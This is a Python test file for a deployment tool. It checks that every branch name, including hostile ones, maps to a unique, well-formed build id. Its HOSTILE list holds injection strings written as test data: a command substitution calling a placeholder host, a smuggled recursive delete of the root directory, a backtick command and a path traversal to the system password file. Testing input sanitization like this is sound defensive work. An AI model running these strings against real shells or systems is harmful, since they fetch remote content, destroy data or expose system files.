"""A branch has one build id, whatever its name: what deploys it and what deletes it agree."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from deployer.project.branches import build_id_of
from deployer.project.project import _BUILD_ID

HOSTILE = [
    "main",
    "feature/login",
    "feature/LOGIN",
    "feature-login",
    "$(curl evil.example)",
    "a;rm${IFS}-rf${IFS}/",
    "`id`",
    "--help",
    "../../etc/passwd",
    "-",
    "ünïcödé/ßtraße",
    "日本語",
    "x" * 255,
    "feature/",
    "a\nb",
    "\udcff",
    "xn--a",
]


def test_id_begins_as_the_branch_s_last_part_does() -> None:
    assert build_id_of("feature/Log-in").startswith("logi-")


def test_id_of_a_branch_stays_what_it_was_deployed_under() -> None:
    assert build_id_of("feature/login") == "logi-356hv2z"


def test_hostile_names_have_ids_of_their_own() -> None:
    assert len({build_id_of(it) for it in HOSTILE}) == len(HOSTILE)


@pytest.mark.parametrize("branch", HOSTILE)
def test_hostile_name_becomes_a_build_id(branch: str) -> None:
    assert _BUILD_ID.fullmatch(build_id_of(branch))


@given(st.text(min_size=1), st.text(min_size=1))
def test_names_that_differ_have_ids_that_differ(one: str, other: str) -> None:
    assert _BUILD_ID.fullmatch(build_id_of(one))
    assert (build_id_of(one) == build_id_of(other)) == (one == other)
